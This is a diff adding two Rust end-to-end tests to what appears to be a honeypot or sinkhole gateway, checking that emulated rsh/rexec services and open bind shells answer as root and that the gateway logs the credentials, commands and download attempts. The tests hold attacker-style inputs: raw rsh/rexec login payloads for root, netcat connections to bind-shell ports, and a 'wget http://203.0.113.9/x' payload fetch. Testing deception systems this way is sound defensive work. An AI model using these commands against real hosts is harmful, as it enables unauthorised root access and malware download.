@@ -118,3 +118,46 @@ fn bots_get_in_whether_they_wait_or_not() {
     let sent = gateway.database.stream(Direction::ToVictim, "dst_port = 23");
     assert!(sent.starts_with(b"\xff\xfb\x01"), "{}", sent.escape_ascii());
 }
+
+#[test]
+#[ignore = "end to end: needs root"]
+fn remote_commands_of_berkeley_are_run_and_somebody_is_let_in() {
+    let Some(gateway) = Gateway::start(SINKGATE, &["rsh-redone-rlogin", "script"], &[]) else {
+        return;
+    };
+    let line = format!(
+        "(sleep 1; echo 'uname -n'; sleep 1; echo exit; sleep 1) | TERM=vt100 script -qec \
+         'rsh-redone-rlogin -l admin {SERVER}' /dev/null; true"
+    );
+    let seen = shell(&gateway.network.victim, &line).stdout;
+    assert!(seen.contains("~ # "), "{seen}");
+    let script = format!(
+        "import socket\n\
+         for port, said in [(514, b'0\\0jo\\0root\\0id\\0'), (512, b'0\\0root\\0s3cret\\0id\\0')]:\n\
+         \x20   peer = socket.create_connection(('{SERVER}', port), timeout=20)\n\
+         \x20   peer.sendall(said)\n\
+         \x20   print(peer.makefile('rb').read())"
+    );
+    let answer = "b'\\x00uid=0(root) gid=0(root) groups=0(root)\\n'\n";
+    assert_eq!(python(&gateway.network.victim, &script), answer.repeat(2));
+    let given = gateway.database.details("credentials.given", 3);
+    let mechanisms: Vec<&Value> = given.iter().map(|given| &given["mechanism"]).collect();
+    assert_eq!(mechanisms, ["trusted", "trusted", "password"]);
+    assert_eq!(commands(&gateway, 4), ["uname -n", "exit", "id", "id"]);
+}
+
+#[test]
+#[ignore = "end to end: needs root"]
+fn a_shell_left_at_a_port_answers_whoever_finds_it() {
+    let Some(gateway) = Gateway::start(SINKGATE, &["nc"], &[]) else { return };
+    for (port, line) in [(4_444, "id"), (9_000, "cd /tmp; id; wget http://203.0.113.9/x")] {
+        let line = format!("printf '{line}\\n' | nc -N -w 5 {SERVER} {port}");
+        let seen = shell(&gateway.network.victim, &line).stdout;
+        assert!(seen.contains("uid=0(root)"), "{port}: {seen}");
+    }
+    assert_eq!(gateway.database.details("download.asked", 1)[0]["protocol"], "bind-shell");
+    gateway.database.expect(
+        "SELECT protocol, count(*) AS count FROM flow_end GROUP BY protocol",
+        &json!([{"protocol": "bind-shell", "count": 2}]),
+    );
+}
